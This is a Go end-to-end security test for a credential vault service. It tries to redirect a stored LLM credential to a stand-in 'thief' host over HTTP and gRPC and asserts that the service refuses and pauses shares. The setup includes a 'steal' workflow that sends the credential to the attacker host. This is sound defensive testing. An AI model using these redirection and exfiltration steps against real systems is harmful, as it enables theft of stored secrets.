package e2e_test

import (
	"cmp"
	"context"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"google.golang.org/grpc/metadata"
	"google.golang.org/protobuf/types/known/fieldmaskpb"

	errorsv1 "github.com/keyhole-dev/keyhole/proto/gen/go/keyhole/errors/v1"
	vaultv1 "github.com/keyhole-dev/keyhole/proto/gen/go/keyhole/vault/v1"
	"github.com/keyhole-dev/keyhole/services/kit/errs"
	"github.com/keyhole-dev/keyhole/services/kit/testkit"
	"github.com/keyhole-dev/keyhole/services/kit/testkit/attack"
)

// TestAttackCredentialToAnotherHost changes the destination of a stored value, over HTTP
// and gRPC, with every key of its workspace, and runs the workspace's own workflow there.
func TestAttackCredentialToAnotherHost(t *testing.T) {
	t.Parallel()
	a := attack.New(t, "A2", "send a stored value to a host that its giver did not name, over HTTP and gRPC")
	both(t, func(t *testing.T, k kind) {
		in := install(t, k, options{})
		provider, thief := testkit.Provider(t), testkit.Provider(t)
		owner := in.asker(t, provider.URL)
		owner.workflow(t, "steal", ask(thief.URL, "$credentials.llm"))
		share, token := owner.share(t, owner.path()+"/workflows/ask", hidden())
		path, evil := owner.path()+"/credentials/llm", origin(thief.URL)
		run := func(what string, r any) {
			got := owner.call(t, http.MethodPost, owner.path()+"/workflows/steal:run", question("x"))
			stolen := slices.ContainsFunc(thief.Calls(), func(c testkit.Call) bool { return strings.Contains(c.Header.Get("Authorization"), "sk-canary-") })
			a.Attempt(got.status >= 400 && !stolen, "%s (%v): %s", what, r, got)
		}
		fields := object{"hosts": []string{evil}, "provider": "generic", "slotKind": "SLOT_KIND_HEADER", "slotName": "x-key"}
		for _, mask := range [][]string{{"hosts"}, {"provider"}, {"slotKind", "slotName"}, {"hosts", "provider"}, {"hosts", "slotKind", "slotName"}} {
			body := object{}
			for _, f := range mask {
				body[f] = fields[f]
			}
			for _, query := range []string{"", "?updateMask=" + strings.Join(mask, ","), "?updateMask=" + strings.Join(mask, ",") + ",title"} {
				r := owner.call(t, http.MethodPatch, path+query, body)
				a.Attempt(r.status == http.StatusBadRequest && r.reason() == "CREDENTIAL_VALUE_NEEDED", "PATCH %s %v: %s", query, body, r)
				run(fmt.Sprint("PATCH ", query, body), r)
			}
		}
		vault := vaultv1.NewVaultServiceClient(in.dial(t, cmp.Or(in.grpc["vault"], in.grpc["all"]), ""))
		ctx := metadata.AppendToOutgoingContext(context.Background(), "authorization", "Bearer "+owner.key)
		for _, paths := range [][]string{nil, {"hosts"}, {"hosts", "provider"}, {"hosts", "slot_kind", "slot_name"}, {"hosts", "title", "version", "fingerprint"}} {
			_, err := vault.UpdateCredential(ctx, &vaultv1.UpdateCredentialRequest{
				Credential: &vaultv1.Credential{
					Name: owner.name + "/credentials/llm", Provider: "generic", Hosts: []string{evil}, SlotKind: vaultv1.SlotKind_SLOT_KIND_HEADER, SlotName: "x-key",
				},
				UpdateMask: &fieldmaskpb.FieldMask{Paths: paths},
			})
			a.Attempt(errs.ReasonOf(errs.From(err)) == errorsv1.Reason_REASON_CREDENTIAL_VALUE_NEEDED, "gRPC mask %v: %v", paths, err)
			run(fmt.Sprint("gRPC mask ", paths), err)
		}
		// With the value, everything may change. The share then waits for its owner.
		second := in.secret()
		owner.must(t, http.MethodPatch, path, object{"value": second, "hosts": []string{origin(provider.URL)}})
		if r := owner.shared(t, token, question("x")); r.status != http.StatusOK {
			t.Errorf("after a new value alone: %s", r)
		}
		owner.must(t, http.MethodPatch, path, object{"value": second, "hosts": []string{origin(provider.URL), evil}})
		r := in.guest().shared(t, token, question("x"))
		a.Attempt(r.reason() == "SHARE_PAUSED", "a share whose credential got another host runs: %s", r)
		if r := owner.get(t, "/v1/"+share); r.text("state") != "SHARE_STATE_SUSPENDED" {
			t.Errorf("the share says %s", r)
		}
		owner.post(t, "/v1/"+share+":resume", object{})
		if r := owner.shared(t, token, question("x")); r.status != http.StatusOK {
			t.Errorf("after its owner resumed it: %s", r)
		}
		// The grant does not cover a new credential with the same ID.
		owner.must(t, http.MethodDelete, path+"?force=true", nil)
		owner.credential(t, "llm", provider.URL)
		r = owner.shared(t, token, question("x"))
		a.Attempt(r.reason() == "SHARE_PAUSED", "a share uses another credential of the same id: %s", r)
	})
}
